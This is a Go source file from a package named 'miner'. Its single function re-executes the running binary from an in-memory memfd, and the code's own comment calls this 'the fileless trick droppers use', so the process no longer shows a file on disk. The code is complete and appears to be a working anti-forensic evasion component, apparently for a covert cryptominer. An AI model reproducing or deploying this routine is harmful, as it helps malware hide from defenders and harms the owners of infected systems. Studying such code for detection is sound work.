package miner

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"
)

// ExecFromMemfd copies the running executable into a memfd and execs it
// from /proc/self/fd/N with argv, the fileless trick droppers use: after
// it /proc/PID/exe reads "/memfd:NAME (deleted)". It returns only on error.
func ExecFromMemfd(argv []string) error {
	self, err := os.Open("/proc/self/exe")
	if err != nil {
		return fmt.Errorf("memfd: open self: %w", err)
	}
	defer self.Close()
	name := filepath.Base(os.Args[0])
	// CLOEXEC: the kernel has the file open by the time fds are closed, and
	// the new image must not inherit its own fd.
	fd, err := unix.MemfdCreate(name, unix.MFD_CLOEXEC)
	if err != nil {
		return fmt.Errorf("memfd_create: %w", err)
	}
	mem := os.NewFile(uintptr(fd), "memfd:"+name)
	defer mem.Close()
	if _, err := io.Copy(mem, self); err != nil {
		return fmt.Errorf("memfd: copy self: %w", err)
	}
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	if err := syscall.Exec(path, argv, os.Environ()); err != nil {
		return fmt.Errorf("memfd: exec %s: %w", path, err)
	}
	return nil
}
